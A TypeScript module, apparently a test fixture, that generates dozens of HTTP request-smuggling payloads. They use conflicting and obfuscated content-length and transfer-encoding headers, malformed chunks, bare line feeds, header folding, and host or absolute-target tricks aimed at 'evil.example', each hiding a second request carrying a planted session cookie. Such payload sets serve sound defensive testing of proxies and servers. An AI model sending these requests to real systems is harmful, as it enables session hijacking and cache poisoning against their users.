/** Bytes that an attacker writes to a socket, made for one target. */
export type Shape = { name: string; bytes: (target: string) => string }

/** Stands in what a server reads as a body, or as nothing: no server behind may ever get a request for it. */
export const SMUGGLED = 'smuggled'

/** Stands in a request that nginx reads as the sender's own second one: it takes a bare line feed for the end of a piece. */
export const SECOND_FOR_NGINX = 'second-for-nginx'

const EOL = '\r\n'
const HEAD = 'host: shop.example\r\ncookie: arus_session=mallory\r\naccept: text/html\r\n'
const HIDDEN = `GET /account?${SMUGGLED} HTTP/1.1\r\n${HEAD}\r\n`
const CHUNKED = 'transfer-encoding: chunked\r\n'
const LAST_CHUNK = '0\r\n\r\n'

const start = (method: string, target: string, version = 'HTTP/1.1') => `${method} ${target} ${version}\r\n`

/** A request whose headers are those of a browser and the given ones, and what follows it. */
function request(method: string, headers: string, rest = '') {
  return (target: string) => `${start(method, target)}${HEAD}${headers}\r\n${rest}`
}

const shape = (name: string, bytes: Shape['bytes']): Shape => ({ name, bytes })

const READS = ['GET', 'HEAD']
const LIES = [1, 30, 400]

const lengths = [...READS, 'OPTIONS', 'DELETE', 'POST'].flatMap((method) =>
  LIES.flatMap((length) => [
    shape(
      `${method} with a length of ${length} and no body`,
      request(method, `content-length: ${length}${EOL}`),
    ),
    shape(
      `${method} with a length of ${length} and a body that is a request`,
      request(method, `content-length: ${length}${EOL}`, HIDDEN.padEnd(length).slice(0, length)),
    ),
  ]),
)

const chunks = [...READS, 'POST'].flatMap((method) => [
  shape(`${method} in pieces that hold a request`, (target) => {
    const size = Buffer.byteLength(HIDDEN).toString(16)
    return request(method, CHUNKED, `${size}${EOL}${HIDDEN}${EOL}${LAST_CHUNK}`)(target)
  }),
  shape(`${method} in pieces that do not come`, request(method, CHUNKED)),
  shape(
    `${method} in pieces and with a length`,
    request(method, `${CHUNKED}content-length: 5${EOL}`, `${LAST_CHUNK}`),
  ),
  shape(
    `${method} with a length and in pieces that hide a request`,
    request(
      method,
      `content-length: ${HIDDEN.length + LAST_CHUNK.length}${EOL}${CHUNKED}`,
      LAST_CHUNK + HIDDEN,
    ),
  ),
])

const codings = [
  'transfer-encoding: xchunked',
  'transfer-encoding: chunked, identity',
  'transfer-encoding: identity',
  'transfer-encoding : chunked',
  'transfer-encoding:\tchunked',
  'transfer-encoding: "chunked"',
  'transfer-encoding: gzip, chunked',
  'Transfer-Encoding: CHUNKED\r\ntransfer-encoding: identity',
  'x: y\r\n transfer-encoding: chunked',
].map((coding) =>
  shape(
    `POST with a length and «${coding.replaceAll(EOL, ' ')}»`,
    request('POST', `content-length: ${HIDDEN.length}${EOL}${coding}${EOL}`, HIDDEN),
  ),
)

const numbers = [
  '+5',
  '5, 5',
  '0x5',
  '-1',
  '5 5',
  '5\r\ncontent-length: 6',
  '5\r\nContent-Length: 5',
  '99999999999999999999',
].map((length) =>
  shape(
    `POST with a length of «${length.replaceAll(EOL, ' ')}»`,
    request('POST', `content-length: ${length}${EOL}`, HIDDEN),
  ),
)

const pieces = [
  ['a size that is no number', `z${EOL}${HIDDEN}`],
  ['a negative size', `-1${EOL}${HIDDEN}`],
  ['a size that overflows', `ffffffffffffffff${EOL}${HIDDEN}`],
  ['an extension', `5;a="${'b'.repeat(99)}"${EOL}12345${EOL}${LAST_CHUNK}`],
  ['a bare line feed', `5\n12345\n0\n\n${HIDDEN.replace(SMUGGLED, SECOND_FOR_NGINX)}`],
  ['a longer piece than it says', `5${EOL}1234567890${EOL}${LAST_CHUNK}`],
  ['trailers', `0${EOL}content-length: 5${EOL}cookie: arus_session=anna${EOL}${EOL}`],
].map(([name = '', body]) => shape(`POST in pieces with ${name}`, request('POST', CHUNKED, body)))

const expectations = ['100-continue', '100-Continue, 200', 'something'].flatMap((expected) =>
  ['GET', 'POST'].flatMap((method) => [
    shape(`${method} that expects ${expected}`, request(method, `expect: ${expected}${EOL}`)),
    shape(
      `${method} with a body that expects ${expected}`,
      request(method, `expect: ${expected}${EOL}content-length: 30${EOL}`, HIDDEN.slice(0, 30)),
    ),
  ]),
)

const upgrades = ['websocket', 'h2c', 'TLS/1.0'].flatMap((protocol) =>
  ['GET', 'POST'].map((method) =>
    shape(
      `${method} that upgrades to ${protocol}`,
      request(
        method,
        `connection: upgrade${EOL}upgrade: ${protocol}${EOL}content-length: 30${EOL}`,
        HIDDEN.slice(0, 30),
      ),
    ),
  ),
)

const lines: Shape[] = [
  shape(
    'GET with a folded header',
    request('GET', `x-folded: one${EOL} two: three${EOL}\tcookie: a=b${EOL}`),
  ),
  shape(
    'GET with bare line feeds',
    (target) => `GET ${target} HTTP/1.1\nhost: shop.example\ncontent-length: 30\n\n`,
  ),
  shape('GET with a bare line feed before a length', request('GET', `x: y\ncontent-length: 30${EOL}`)),
  shape('GET with a bare carriage return', request('GET', `x: y\rcontent-length: 30${EOL}`)),
  shape('GET with NUL in a header', request('GET', `x: y\0z${EOL}`)),
  shape(
    'GET with a space before its first header',
    (target) => `GET ${target} HTTP/1.1\r\n host: shop.example\r\n\r\n`,
  ),
  shape('GET with a header without a colon', request('GET', `nothing${EOL}`)),
  shape('GET with empty lines before it', (target) => `${EOL}${EOL}${request('GET', '')(target)}`),
  shape('GET with a request in a header', request('GET', `x: ${HIDDEN.replaceAll(EOL, '\\r\\n')}${EOL}`)),
]

const targets: Shape[] = [
  shape(
    'GET of an absolute address',
    (target) => `${start('GET', `http://evil.example${target}`)}${HEAD}${EOL}`,
  ),
  shape(
    'GET of another host by its address',
    (target) => `${start('GET', `//evil.example${target}`)}${HEAD}${EOL}`,
  ),
  shape('OPTIONS of everything', () => `${start('OPTIONS', '*')}${HEAD}${EOL}`),
  shape('CONNECT', () => `${start('CONNECT', 'shop.example:443')}${HEAD}${EOL}${HIDDEN}`),
  shape(
    'GET of an address with a space',
    (target) => `${start('GET', `${target} HTTP/1.1${EOL}x`)}${HEAD}${EOL}`,
  ),
  shape('GET with two hosts', request('GET', `host: evil.example${EOL}`)),
  shape('GET without a host', (target) => `${start('GET', target)}${EOL}`),
]

const versions: Shape[] = [
  shape(
    'GET of HTTP/1.0 that stays',
    (target) => `${start('GET', target, 'HTTP/1.0')}connection: keep-alive\r\n${HEAD}${EOL}`,
  ),
  shape(
    'POST in pieces of HTTP/1.0',
    (target) => `${start('POST', target, 'HTTP/1.0')}${HEAD}${CHUNKED}${EOL}${LAST_CHUNK}`,
  ),
  shape('GET of HTTP/0.9', (target) => `GET ${target}${EOL}`),
  shape('the opening of HTTP/2', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
]

const connections = [
  'cookie',
  'x-forwarded-for',
  'content-length',
  'transfer-encoding',
  'host',
  'x-request-id',
].map((name) =>
  shape(`GET that keeps ${name} to its connection`, request('GET', `connection: keep-alive, ${name}${EOL}`)),
)

const pipelines: Shape[] = [
  shape('four GETs at once', (target) => request('GET', '')(target).repeat(4)),
  shape(
    'a POST and a GET at once',
    (target) => request('POST', `content-length: 2${EOL}`, 'ok')(target) + request('GET', '')(target),
  ),
  shape(
    'a GET with a lie and four ordinary ones',
    (target) => request('GET', `content-length: 30${EOL}`)(target) + request('GET', '')(target).repeat(4),
  ),
]

export const shapes: readonly Shape[] = [
  ...lengths,
  ...chunks,
  ...codings,
  ...numbers,
  ...pieces,
  ...expectations,
  ...upgrades,
  ...lines,
  ...targets,
  ...versions,
  ...connections,
  ...pipelines,
]
